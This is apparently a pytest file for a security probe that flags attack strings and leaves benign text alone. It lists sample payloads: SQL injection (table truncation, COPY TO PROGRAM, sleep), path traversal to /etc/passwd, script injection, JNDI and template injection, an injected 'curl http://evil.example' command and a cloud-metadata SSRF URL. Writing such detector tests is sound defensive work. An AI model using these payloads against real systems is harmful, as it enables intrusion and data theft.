"""Known attack strings: what is told of, and that honest words are left alone."""

import time

import pytest

from make_bridge.platform.security.probes import KINDS, MOST_BYTES, kinds_of

WIDE = "".join(chr(ord(letter) - 0x20 + 0xFF00) for letter in "UNION") + " SELECT name"
ATTACKS = [
    ("sql", "' OR '1'='1"),
    ("sql", "admin'--"),
    ("sql", "1; TRUNCATE TABLE users"),
    ("sql", "'; COPY users TO PROGRAM 'x'--"),
    ("sql", "1 AND pg_sleep(10)"),
    ("sql", "0 UNION ALL SELECT 1"),
    ("sql", "%27%20OR%201%3D1"),
    ("sql", WIDE),
    ("path", "..%2f..%2f..%2fetc%2fpasswd"),
    ("script", "<img src=x onerror=alert(1)>"),
    ("script", '{"name": "<script>fetch(1)</script>"}'),
    ("template", "${jndi:dns://x}"),
    ("template", "{{constructor.constructor('return 1')()}}"),
    ("command", "x; curl http://evil.example"),
    ("address", '{"url": "http://169.254.169.254/latest"}'),
]
HONEST = [
    "Please update your address",
    "Select Committee on Education",
    "European Union office, Western Union transfer",
    "Trade Union Congress; select one of the delegates",
    "Drop-off point 7",
    "O'Brien -- and sons",
    "cats & id cards; fish; cat food",
    "Create a table for ten, then delete the reservation",
    "100% of it",
    "{{1.constructor}} {{if(a = b; c; d)}}",
]


@pytest.mark.parametrize(("kind", "text"), ATTACKS, ids=[text[:24] for _, text in ATTACKS])
def test_the_words_of_an_attack_are_seen(kind, text):
    assert kind in kinds_of(text.encode())


@pytest.mark.parametrize("text", HONEST)
def test_honest_words_are_not(text):
    assert kinds_of(text.encode()) == []


def test_bytes_that_are_no_text_are_looked_at_all_the_same():
    assert kinds_of(b"\xff\xfe' or '1'='1") == ["sql"]


def test_what_lies_behind_the_bound_is_not_looked_at():
    attack = b"' or '1'='1"
    assert kinds_of(b" " * (MOST_BYTES - len(attack)) + attack) == ["sql"]
    assert kinds_of(b" " * MOST_BYTES + attack) == []


@pytest.mark.parametrize("piece", [b"../", b"' or ", b"union all ", b"<a ", b"%25", b"${", b"\xef\xbc\xb5"])
def test_no_text_takes_longer_than_its_length(piece):
    began = time.process_time()
    kinds_of(piece * (MOST_BYTES // len(piece)))
    assert time.process_time() - began < 1.0


def test_kinds_are_few():
    assert KINDS == ("sql", "path", "script", "template", "command", "address")
